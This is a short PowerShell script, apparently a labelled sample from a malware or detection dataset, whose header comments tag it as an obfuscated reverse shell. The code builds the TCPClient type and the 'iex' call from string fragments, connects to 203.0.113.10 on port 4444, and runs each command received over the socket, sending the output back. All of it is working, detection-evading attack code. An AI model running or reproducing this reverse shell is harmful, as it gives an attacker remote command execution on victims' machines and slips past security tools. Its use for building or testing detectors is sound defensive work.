# description: Builds the TCPClient type name from fragments and runs a reverse shell loop.
# family: reverse-shell
# obfuscated: yes
$t = 'System.Net.' + 'Sockets.' + 'TCP' + 'Client'
$c = New-Object $t -ArgumentList ('203.0.' + '113.10'), (4400 + 44)
$s = $c.GetStream()
$w = New-Object IO.StreamWriter($s)
$r = New-Object IO.StreamReader($s)
while ($c.Connected) {
    $line = $r.ReadLine()
    $w.WriteLine((& ('i' + 'ex') $line 2>&1 | Out-String))
    $w.Flush()
}
